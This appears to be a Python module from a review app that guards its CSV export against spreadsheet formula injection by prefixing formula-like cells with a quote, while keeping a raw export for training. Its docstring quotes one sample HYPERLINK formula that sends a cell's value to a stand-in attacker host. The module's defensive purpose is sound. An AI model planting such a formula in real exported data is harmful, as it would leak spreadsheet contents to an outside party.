"""The review CSV export's cells: safe to open in a spreadsheet by default, raw for training.

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that starts with `=`, `+`, `-` or
`@` as a formula, and one that starts with a tab or carriage return can be read as one too, so a
public review such as `=HYPERLINK("http://evil.example/?x="&A1,"click")` would become a live link
in the admin's download. As OWASP advises (CSV Injection), such a text cell is prefixed with `'`,
which spreadsheets show as text and never evaluate. Numbers are written as they are.

The training export (`format=training`) keeps every text as stored: it is read by `train`, never
by a spreadsheet.
"""

from __future__ import annotations

from typing import Any

from marshmallow import fields, validate

from brandpulse.api.endpoints.review_schemas import ReviewFilterSchema

# What a spreadsheet may take for the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SPREADSHEET = "spreadsheet"
TRAINING = "training"
FORMATS = (SPREADSHEET, TRAINING)


def neutralise(cell: Any) -> Any:
    """`cell` as a spreadsheet shows it without running it: a text starting like a formula gets a
    leading `'`; anything else (numbers, other text) is returned unchanged."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def raw(cell: Any) -> Any:
    """`cell` unchanged: the training export."""
    return cell


class ReviewExportQuerySchema(ReviewFilterSchema):
    """Filters of the export and what the file is for."""

    format = fields.String(
        load_default=SPREADSHEET,
        validate=validate.OneOf(FORMATS),
        metadata={
            "description": "`spreadsheet` (default): every text cell that a spreadsheet would run "
            "(starting with `=`, `+`, `-`, `@`, a tab or a carriage return) is prefixed with `'`. "
            "`training`: texts exactly as stored, for `train --labels stars3`; never open it in a "
            "spreadsheet."
        },
    )
